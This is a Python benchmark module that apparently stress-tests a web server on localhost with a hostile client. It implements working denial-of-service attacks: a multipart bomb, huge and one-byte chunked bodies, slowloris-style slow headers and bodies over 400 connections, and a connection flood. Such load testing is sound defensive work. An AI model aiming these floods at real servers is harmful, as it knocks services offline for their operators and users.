"""`python -m benchmarks.attacker KIND PORT`: a hostile client, until it is ended."""

import os
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress

PEER = "127.0.0.2"  # another client than the one that is measured
MEBIBYTE = 1024 * 1024
HOST = b"Host: localhost\r\n"
PART = b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n"
CONNECTIONS = 400


def multipart(address: tuple[str, int]) -> None:
    """4 MiB of empty parts."""
    body = PART * (4 * MEBIBYTE // len(PART))
    _send(address, b"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: %d\r\n" % len(body), [body])


def chunked(address: tuple[str, int]) -> None:
    """300 MiB in chunks of 64 KiB."""
    _send(address, b"Transfer-Encoding: chunked\r\n", [b"10000\r\n" + b"x" * 65536 + b"\r\n"] * 4800)


def small_chunks(address: tuple[str, int]) -> None:
    """A body in chunks of one byte."""
    _send(address, b"Transfer-Encoding: chunked\r\n", [b"1\r\nx\r\n" * 10_000] * 100)


def slow_headers(address: tuple[str, int]) -> None:
    _drip(address, b"GET / HTTP/1.1\r\nX-Slow: ")


def slow_bodies(address: tuple[str, int]) -> None:
    _drip(address, b"POST /admin/login/ HTTP/1.1\r\n" + HOST + b"Content-Length: 100000\r\n\r\n")


def connections(address: tuple[str, int]) -> None:
    """Many connections, again and again."""
    opened: list[socket.socket] = []
    while True:
        with suppress(OSError):
            opened.append(_connect(address))
        if len(opened) > 2000:
            opened.pop(0).close()
        time.sleep(0.002)


KINDS: dict[str, Callable[[tuple[str, int]], None]] = {
    "a multipart bomb": multipart,
    "300 MiB in chunks": chunked,
    "chunks of one byte": small_chunks,
    f"{CONNECTIONS} slow headers": slow_headers,
    f"{CONNECTIONS} slow bodies": slow_bodies,
    "as many connections as it gets": connections,
}


def _connect(address: tuple[str, int]) -> socket.socket:
    return socket.create_connection(address, 10, (PEER, 0))


def _send(address: tuple[str, int], header: bytes, pieces: list[bytes]) -> None:
    """Again, as soon as it was refused."""
    while True:
        with suppress(OSError), _connect(address) as connection:
            connection.sendall(b"POST / HTTP/1.1\r\n" + HOST + header + b"\r\n")
            for piece in pieces:
                connection.sendall(piece)
            connection.recv(65536)


def _drip(address: tuple[str, int], begin: bytes) -> None:
    """A byte a second on each connection, and a new connection for each that was closed."""
    opened: list[socket.socket] = []
    while True:
        while len(opened) < CONNECTIONS:
            connection = _connect(address)
            connection.sendall(begin)
            opened.append(connection)
        for connection in list(opened):
            try:
                connection.send(b"x")
            except OSError:
                opened.remove(connection)
        time.sleep(1)


if __name__ == "__main__":
    os.setpriority(os.PRIO_PROCESS, 0, 19)  # it shares the cores with the server, as no client does
    KINDS[sys.argv[1]](("127.0.0.1", int(sys.argv[2])))
